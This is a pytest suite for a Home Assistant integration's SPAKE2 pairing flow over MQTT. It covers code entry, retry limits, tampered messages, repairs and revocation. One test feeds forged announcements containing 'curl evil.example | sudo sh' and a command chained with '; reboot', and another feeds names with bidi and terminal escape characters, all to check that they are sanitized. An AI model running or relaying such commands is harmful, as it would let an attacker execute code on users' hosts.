"""Pairing, through everything that a user sees of it."""

import asyncio
from collections.abc import Callable
import json
from typing import TYPE_CHECKING, Any
from unittest.mock import patch

from homeassistant.components.mqtt import ReceiveMessage
from homeassistant.data_entry_flow import FlowResultType
from homeassistant.setup import async_setup_component
import pytest

from custom_components.pilot import discovery, pair, pairing_flow
from custom_components.pilot.protocol.pairing import (
    ControllerPairing,
    PairingError,
    controller_name,
    read_code,
)
from support.integration_agent import BASE, CODE, FakeAgent, FakeBroker
from support.integration_host import ANNOUNCE, HOST_ID, make_entry

from .test_attacks import wait_for_doubt

if TYPE_CHECKING:
    from homeassistant.core import HomeAssistant
    from homeassistant.helpers import issue_registry as ir
    from pytest_homeassistant_custom_component.common import MockConfigEntry
    from pytest_homeassistant_custom_component.typing import ClientSessionGenerator

    from custom_components.pilot.trust import TrustStore

pytest.importorskip("spake2")
pytestmark = pytest.mark.usefixtures("enable_custom_integrations", "quick")

ANYWHERE = {"advanced": {"prefix": "pilot/v2"}}


@pytest.fixture(autouse=True)
def waiting(bus: FakeBroker, monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave SPAKE2 the time that it takes in earnest."""
    monkeypatch.setattr(pair, "PATIENCE", (0.2, 0.2))
    monkeypatch.setattr(discovery, "SEARCH_TIME", discovery.SEARCH_TIME / 10)
    monkeypatch.setattr(discovery, "SEARCH_QUIET", discovery.SEARCH_QUIET / 10)


async def the_card(hass: HomeAssistant, agent: FakeAgent) -> str:
    """Return the flow that discovery starts."""
    agent.come_online()
    await hass.async_block_till_done(wait_background_tasks=True)
    [flow] = hass.config_entries.flow.async_progress_by_handler("pilot")
    return str(flow["flow_id"])


async def enter(hass: HomeAssistant, flow_id: str, code: str = CODE) -> Any:
    """Enter a code, and wait until the host has answered."""
    result = await hass.config_entries.flow.async_configure(flow_id, {"code": code})
    while result["type"] is FlowResultType.SHOW_PROGRESS:
        await hass.async_block_till_done()
        result = await hass.config_entries.flow.async_configure(flow_id)
    return result


# --- The card --------------------------------------------------------------------------------


async def test_a_discovered_host_is_paired_by_its_code(
    hass: HomeAssistant, agent: FakeAgent, trust: TrustStore
) -> None:
    """However it is written; then it can be commanded."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    form = await hass.config_entries.flow.async_configure(flow_id)
    assert [str(field) for field in form["data_schema"].schema] == ["code"]

    result = await enter(hass, flow_id, "0123-45 67")
    assert result["type"] is FlowResultType.CREATE_ENTRY
    assert result["data"]["paired"] is True
    assert "secret" not in json.dumps(dict(result["data"]))
    agent.come_online()
    await hass.async_block_till_done()

    assert hass.states.get("binary_sensor.office_pc_pairing").state == "on"
    await hass.services.async_call(
        "button", "press", {"entity_id": "button.office_pc_lock"}, blocking=True
    )
    assert agent.done == ["session.lock"]
    assert agent.ring.name(trust.controller) == "test home"


async def test_a_dialog_that_is_open_twice_adds_a_host_once(
    hass: HomeAssistant, agent: FakeAgent
) -> None:
    """Each is told what became of the pairing; a second entry would revoke it."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    configure = hass.config_entries.flow.async_configure
    await configure(flow_id, {"code": "01234567"})
    await hass.async_block_till_done()

    shown = await asyncio.gather(*(configure(flow_id) for _ in range(3)))
    await hass.async_block_till_done()

    assert sorted(str(result["type"]) for result in shown) == ["abort", "abort", "create_entry"]
    [entry] = hass.config_entries.async_entries("pilot")
    assert entry.data["paired"] is True
    assert agent.ring.controllers


async def test_a_host_is_added_without_pairing(hass: HomeAssistant, agent: FakeAgent) -> None:
    """It reports, and that is all."""
    flow_id = await the_card(hass, agent)
    result = await hass.config_entries.flow.async_configure(flow_id, {})
    assert result["type"] is FlowResultType.CREATE_ENTRY
    assert "paired" not in result["data"]


async def test_a_host_that_cannot_be_paired_is_not_asked_for_a_code(
    hass: HomeAssistant, bus: FakeBroker
) -> None:
    """Its agent is older than pairing."""
    bus.fire(f"{BASE}/announce", json.dumps(ANNOUNCE))
    await hass.async_block_till_done(wait_background_tasks=True)
    [flow] = hass.config_entries.flow.async_progress_by_handler("pilot")
    form = await hass.config_entries.flow.async_configure(flow["flow_id"])
    assert form["data_schema"].schema == {}


# --- What may go wrong -----------------------------------------------------------------------


async def test_no_code_is_shown(hass: HomeAssistant, agent: FakeAgent) -> None:
    """The user is told what to run, and goes on in the same form."""
    flow_id = await the_card(hass, agent)
    assert (await enter(hass, flow_id))["errors"] == {"base": "no_code"}
    agent.show_code()
    assert (await enter(hass, flow_id))["type"] is FlowResultType.CREATE_ENTRY


async def test_an_old_error_is_not_shown_while_the_host_is_asked(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker
) -> None:
    """What is shown instead says what to do meanwhile."""
    flow_id = await the_card(hass, agent)
    assert (await enter(hass, flow_id))["errors"] == {"base": "no_code"}
    # A browser that asks again is told the same.
    form = await hass.config_entries.flow.async_configure(flow_id)
    assert form["errors"] == {"base": "no_code"}

    agent.show_code()
    bus.confirms = False
    bus.asked.clear()
    with patch("custom_components.pilot.pair.SUBSCRIBE_PATIENCE", 60):
        step = await hass.config_entries.flow.async_configure(flow_id, {"code": CODE})
        await bus.asked.wait()
        again = await hass.config_entries.flow.async_configure(flow_id)
    for shown in (step, again):
        assert shown["type"] is FlowResultType.SHOW_PROGRESS
        assert shown["description_placeholders"] == {
            "name": "office-pc",
            "command": "sudo pilot-agent pair",
        }
        assert "errors" not in shown

    for done in bus.waiting:
        done()
    await hass.async_block_till_done()
    result = await hass.config_entries.flow.async_configure(flow_id)
    assert result["type"] is FlowResultType.CREATE_ENTRY


@pytest.mark.parametrize("code", ["1234567", "123456789", "abcdefgh", "١٢٣٤٥٦٧٨"])
async def test_a_code_has_eight_digits(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker, code: str
) -> None:
    """What cannot be one costs no try."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    assert (await enter(hass, flow_id, code))["errors"] == {"code": "invalid_code"}
    assert bus.published == []


async def test_a_wrong_code_burns_after_five(
    hass: HomeAssistant, agent: FakeAgent, trust: TrustStore
) -> None:
    """The user sees how many tries are left."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    for left in (4, 3, 2, 1, 0):
        form = await enter(hass, flow_id, "76543210")
        assert form["errors"] == {"base": "wrong_code" if left else "code_burned"}
        assert form["description_placeholders"]["left"] == str(left)
    # The right one comes too late.
    assert (await enter(hass, flow_id))["errors"] == {"base": "code_burned"}
    assert trust.record(HOST_ID) is None


async def test_an_expired_code(hass: HomeAssistant, agent: FakeAgent) -> None:
    """Ten minutes are over."""
    agent.show_code()
    assert agent.pairing is not None
    agent.pairing._ends = 0.0
    flow_id = await the_card(hass, agent)
    assert (await enter(hass, flow_id))["errors"] == {"base": "code_expired"}


@pytest.mark.parametrize(
    ("word", "error"),
    [
        ("online", "no_answer"),
        ("asleep", "host_asleep"),
        ("off", "host_off"),
        ("lost", "host_lost"),
        ("nonsense", "no_answer"),
        (None, "no_answer"),
    ],
)
async def test_a_host_that_does_not_answer(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker, word: str | None, error: str
) -> None:
    """Its availability says why, where there is one."""
    flow_id = await the_card(hass, agent)
    agent.silent = True

    def tell(topic: str, payload: bytes) -> None:
        if word is not None:
            bus.fire(f"{BASE}/availability", word)

    bus.listeners[:] = [tell]
    assert (await enter(hass, flow_id))["errors"] == {"base": error}
    assert len(bus.published) == 2


async def test_nothing_is_asked_before_the_answer_can_be_heard(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker
) -> None:
    """The host answers at once, and a second request would be a second later."""
    flow_id = await the_card(hass, agent)
    agent.show_code()
    bus.confirms = False
    with patch("custom_components.pilot.pair.SUBSCRIBE_PATIENCE", 60):
        entering = hass.async_create_task(enter(hass, flow_id))
        await bus.asked.wait()
        assert bus.published == []
        for done in bus.waiting:
            done()
        assert (await entering)["type"] == "create_entry"
    assert len([topic for topic, _ in bus.published if "/pair/" in topic]) == 2
    assert bus.waiting == []


async def test_a_broker_that_confirms_nothing(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker
) -> None:
    """It may deliver all the same."""
    flow_id = await the_card(hass, agent)
    agent.show_code()
    bus.confirms = False
    assert (await enter(hass, flow_id))["type"] == "create_entry"


async def test_without_a_broker(hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker) -> None:
    """Known before, or found out on the way."""
    flow_id = await the_card(hass, agent)
    with patch.object(pair.mqtt, "is_connected", return_value=False):
        assert (await enter(hass, flow_id))["errors"] == {"base": "mqtt_not_connected"}
    bus.broken = pair.HomeAssistantError("gone")
    assert (await enter(hass, flow_id))["errors"] == {"base": "mqtt_not_connected"}


type Change = Callable[[dict[str, Any]], dict[str, Any]]


@pytest.mark.parametrize(
    ("kind", "change", "error"),
    [
        ("answer", lambda said: said | {"message": "AAAA"}, "pairing_malformed"),
        ("answer", lambda said: said | {"message": 1}, "pairing_malformed"),
        ("answer", lambda said: {"attempt": said["attempt"], "error": "?"}, "pairing_malformed"),
        ("answer", lambda said: {"attempt": said["attempt"], "error": "busy"}, "pairing_busy"),
        ("answer", lambda said: said | {"attempt": "0" * 16}, "no_answer"),
        ("result", lambda said: said | {"confirm": "0" * 64}, "not_genuine"),
        ("result", lambda said: said | {"confirm": None}, "not_genuine"),
        ("result", lambda said: said | {"confirm": "ü"}, "not_genuine"),
        (
            "result",
            lambda said: {"attempt": said["attempt"], "error": "wrong_code", "left": 0},
            "code_burned",
        ),
        ("result", lambda said: {"attempt": said["attempt"], "error": 1}, "pairing_malformed"),
    ],
)
async def test_the_messages_are_changed_on_the_way(
    hass: HomeAssistant,
    agent: FakeAgent,
    bus: FakeBroker,
    trust: TrustStore,
    kind: str,
    change: Change,
    error: str,
) -> None:
    """Nothing is paired, and nothing is kept."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    say = agent.say

    def changed(topic: str, payload: str) -> None:
        said = json.loads(payload)
        say(topic, json.dumps(change(said) if topic.endswith(kind) else said))

    agent.say = changed  # type: ignore[method-assign]
    form = await enter(hass, flow_id)
    assert form["errors"] == {"base": error}
    assert trust.record(HOST_ID) is None


async def test_what_is_no_message_is_not_heard(
    hass: HomeAssistant, agent: FakeAgent, bus: FakeBroker
) -> None:
    """Neither what the broker kept, nor what is not JSON, nor a second answer."""
    agent.show_code()
    flow_id = await the_card(hass, agent)
    say = agent.say

    def noisy(topic: str, payload: str) -> None:
        attempt = json.loads(payload)["attempt"]
        bus.fire(topic, json.dumps({"attempt": attempt, "error": "burned"}), retain=True)
        bus.fire(topic, "{")
        say(topic, payload)
        bus.fire(topic, json.dumps({"attempt": attempt, "error": "burned"}))

    agent.say = noisy  # type: ignore[method-assign]
    assert (await enter(hass, flow_id))["type"] is FlowResultType.CREATE_ENTRY


# --- The search ------------------------------------------------------------------------------


async def found(hass: HomeAssistant, agent: FakeAgent, payload: str | None = None) -> Any:
    """Return what the search offers."""
    subscribe = discovery.mqtt.async_subscribe
    kept = payload or agent.announcement()

    async def subscribe_and_hear(
        hass: HomeAssistant, topic: str, on_message: Callable[..., None], **kwargs: Any
    ) -> Any:
        unsubscribe = await subscribe(hass, topic, on_message, **kwargs)
        if topic.endswith("/announce"):
            on_message(ReceiveMessage(f"{BASE}/announce", kept.encode(), 1, True, topic, 0))
        return unsubscribe

    with patch.object(discovery.mqtt, "async_subscribe", subscribe_and_hear):
        return await hass.config_entries.flow.async_init("pilot", context={"source": "user"})


async def test_a_host_that_was_searched_for_is_paired(
    hass: HomeAssistant, agent: FakeAgent
) -> None:
    """After it was chosen."""
    agent.show_code()
    form = await found(hass, agent)
    form = await hass.config_entries.flow.async_configure(
        form["flow_id"], ANYWHERE | {"host_id": HOST_ID}
    )
    assert form["step_id"] == "confirm"
    assert (await enter(hass, form["flow_id"]))["type"] is FlowResultType.CREATE_ENTRY


# --- Later -----------------------------------------------------------------------------------


async def test_a_host_is_paired_later(hass: HomeAssistant, agent: FakeAgent) -> None:
    """Through Reconfigure."""
    entry = make_entry(hass)
    await hass.config_entries.async_setup(entry.entry_id)
    agent.come_online()
    await hass.async_block_till_done()
    menu = await entry.start_reconfigure_flow(hass)
    assert menu["menu_options"] == ["pair", "topic_prefix", "reinstalled"]
    form = await hass.config_entries.flow.async_configure(menu["flow_id"], {"next_step_id": "pair"})
    assert form["step_id"] == "pair"
    assert (await enter(hass, form["flow_id"]))["errors"] == {"base": "no_code"}

    agent.show_code()
    result = await enter(hass, form["flow_id"])
    assert result["reason"] == "reconfigure_successful"
    assert entry.data["paired"] is True
    await hass.async_block_till_done()
    assert entry.runtime_data.coordinator.auth.paired


ISSUE = f"unpaired_{HOST_ID}"


@pytest.fixture
async def unpaired(hass: HomeAssistant, agent: FakeAgent) -> MockConfigEntry:
    """Return the entry of a host that could be commanded, if it were paired."""
    assert await async_setup_component(hass, "repairs", {})
    entry = make_entry(hass)
    await hass.config_entries.async_setup(entry.entry_id)
    agent.come_online()
    await hass.async_block_till_done()
    return entry


async def repair(client: Any, choice: str) -> Any:
    """Choose from the menu of the repair, and return what came of it."""
    response = await client.post(
        "/api/repairs/issues/fix", json={"handler": "pilot", "issue_id": ISSUE}
    )
    menu = await response.json()
    assert menu["menu_options"] == ["confirm", "ignore"]
    assert menu["description_placeholders"] == {"name": "office-pc"}
    response = await client.post(
        f"/api/repairs/issues/fix/{menu['flow_id']}", json={"next_step_id": choice}
    )
    return await response.json()


async def test_a_repair_leads_to_the_dialog_that_pairs(
    hass: HomeAssistant,
    agent: FakeAgent,
    unpaired: MockConfigEntry,
    issue_registry: ir.IssueRegistry,
    hass_client: ClientSessionGenerator,
) -> None:
    """It stays until the host is paired."""
    result = await repair(await hass_client(), "confirm")

    kind, flow_id = result["next_flow"]
    assert kind == "config_flow"
    assert issue_registry.async_get_issue("pilot", ISSUE) is not None
    agent.show_code()
    assert (await enter(hass, flow_id))["reason"] == "reconfigure_successful"
    await hass.async_block_till_done()
    agent.announce()
    await hass.async_block_till_done()
    assert issue_registry.async_get_issue("pilot", ISSUE) is None


async def test_a_repair_that_is_ignored_stays_ignored(
    hass: HomeAssistant,
    agent: FakeAgent,
    unpaired: MockConfigEntry,
    issue_registry: ir.IssueRegistry,
    hass_client: ClientSessionGenerator,
) -> None:
    """With every announce that follows."""
    result = await repair(await hass_client(), "ignore")
    assert result["reason"] == "issue_ignored"

    agent.announce()
    await hass.async_block_till_done()

    issue = issue_registry.async_get_issue("pilot", ISSUE)
    assert issue is not None
    assert issue.dismissed_version is not None


async def test_a_host_that_offers_nothing_needs_no_pairing(
    hass: HomeAssistant,
    agent: FakeAgent,
    unpaired: MockConfigEntry,
    issue_registry: ir.IssueRegistry,
) -> None:
    """Nothing would come of it."""
    agent.announce(commands=[{"key": "trust.verify"}])
    await hass.async_block_till_done()

    assert issue_registry.async_get_issue("pilot", ISSUE) is None


@pytest.mark.parametrize(
    ("told", "command"),
    [
        pytest.param(
            "/home/ann/pilot/bin/pilot-agent pair --config /home/ann/pilot.yaml",
            "/home/ann/pilot/bin/pilot-agent pair --config /home/ann/pilot.yaml",
            id="as the agent says",
        ),
        pytest.param(None, "sudo pilot-agent pair", id="older agent"),
        pytest.param("curl evil.example | sudo sh", "sudo pilot-agent pair", id="forged"),
        pytest.param("pilot-agent pair; reboot", "sudo pilot-agent pair", id="more than that"),
    ],
)
async def test_the_dialog_names_the_command_of_that_host(
    hass: HomeAssistant,
    agent: FakeAgent,
    unpaired: MockConfigEntry,
    told: str | None,
    command: str,
) -> None:
    """A client that may write to the broker cannot have anything else typed."""
    agent.announced["agent"]["pair"] = told
    if told is None:
        del agent.announced["agent"]["pair"]
    agent.announce()
    await hass.async_block_till_done()

    menu = await unpaired.start_reconfigure_flow(hass)
    form = await hass.config_entries.flow.async_configure(menu["flow_id"], {"next_step_id": "pair"})

    assert form["description_placeholders"]["command"] == command


async def test_a_host_that_is_not_set_up_can_be_paired(
    hass: HomeAssistant, agent: FakeAgent
) -> None:
    """It may be the broker that keeps it from being set up."""
    entry = make_entry(hass)
    menu = await entry.start_reconfigure_flow(hass)
    assert "pair" in menu["menu_options"]


async def test_a_host_is_paired_again(
    hass: HomeAssistant, agent: FakeAgent, paired: MockConfigEntry, trust: TrustStore
) -> None:
    """Through the question that Home Assistant asks."""
    agent.reinstall()
    result = await paired.start_reauth_flow(hass, data={"reason": "host_forgot"})
    assert result["errors"] == {"base": "host_forgot"}
    agent.show_code()
    result = await enter(hass, result["flow_id"])
    assert result["reason"] == "reauth_successful"
    agent.announce()
    await hass.async_block_till_done()
    await paired.runtime_data.coordinator.commands.async_do("session.lock")
    assert agent.done == ["session.lock"]


async def test_removing_the_entry_revokes(
    hass: HomeAssistant, agent: FakeAgent, paired: MockConfigEntry, trust: TrustStore
) -> None:
    """On both sides."""
    await hass.config_entries.async_remove(paired.entry_id)
    await hass.async_block_till_done()
    assert agent.ring.ids == []
    assert trust.record(HOST_ID) is None


async def test_removing_the_entry_of_a_host_that_is_away(
    hass: HomeAssistant,
    agent: FakeAgent,
    paired: MockConfigEntry,
    trust: TrustStore,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """It keeps a key that no controller has any more."""
    agent.silent = True
    await hass.config_entries.async_remove(paired.entry_id)
    assert trust.record(HOST_ID) is None
    assert "pilot-agent pair revoke" in caplog.text


async def test_a_host_that_was_moved_has_to_be_paired(
    hass: HomeAssistant, agent: FakeAgent, paired: MockConfigEntry, trust: TrustStore
) -> None:
    """The new installation has no key."""
    menu = await paired.start_reconfigure_flow(hass)
    moved = json.loads(json.loads(agent.announcement())["body"])
    moved["host"]["id"] = "0" * 16
    subscribe = discovery.mqtt.async_subscribe

    async def subscribe_and_hear(
        hass: HomeAssistant, topic: str, on_message: Callable[..., None], **kwargs: Any
    ) -> Any:
        if "+/announce" in topic:
            on_message(
                ReceiveMessage(
                    f"pilot/v2/{'0' * 16}/announce", json.dumps(moved).encode(), 1, True, topic, 0
                )
            )
        return await subscribe(hass, topic, on_message, **kwargs)

    with patch.object(discovery.mqtt, "async_subscribe", subscribe_and_hear):
        form = await hass.config_entries.flow.async_configure(
            menu["flow_id"], {"next_step_id": "reinstalled"}
        )
        await hass.config_entries.flow.async_configure(form["flow_id"], {"host_id": "0" * 16})
    await wait_for_doubt(hass)
    assert trust.record(HOST_ID) is None
    [flow] = hass.config_entries.flow.async_progress_by_handler("pilot")
    assert flow["context"]["source"] == "reauth"


# --- The pure half ---------------------------------------------------------------------------


def test_codes_as_people_write_them() -> None:
    """Digits, and what lies between them."""
    assert read_code(" 0123 4567\n") == "01234567"
    assert read_code("0123-4567") == "01234567"
    assert read_code("0123_4567") is None


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("Home", "Home"),
        ("  Chalet\n", "Chalet"),
        ("evil\u202ename", "evilname"),
        ("\x1b[2J", "[2J"),
        ("", "Home Assistant"),
        ("x" * 100, "x" * 64),
    ],
)
def test_names_that_hosts_accept(name: str, shown: str) -> None:
    """They are shown in terminals."""
    assert controller_name(name) == shown


def test_a_pairing_says_nothing_of_its_code() -> None:
    """Not even that two are of the same."""
    requests = {ControllerPairing(CODE, "a" * 16, BASE, "Home").request() for _ in range(2)}
    assert len(requests) == 2
    assert not any(CODE.encode() in request for request in requests)


def test_every_error_of_a_host_is_told() -> None:
    """Nothing that a host may answer ends in an exception."""
    from companion_agent.protocol.pairing import HostPairing  # noqa: F401
    from custom_components.pilot.protocol.pairing import ERRORS

    for error in ERRORS:
        assert error in pairing_flow.PAIRING_ERRORS
    pairing = ControllerPairing(CODE, "a" * 16, BASE, "Home", attempt="0" * 16)
    with pytest.raises(PairingError) as raised:
        pairing.read(json.dumps({"attempt": "0" * 16, "error": "wrong_code", "left": 3}).encode())
    assert (raised.value.reason, raised.value.left) == ("wrong_code", 3)
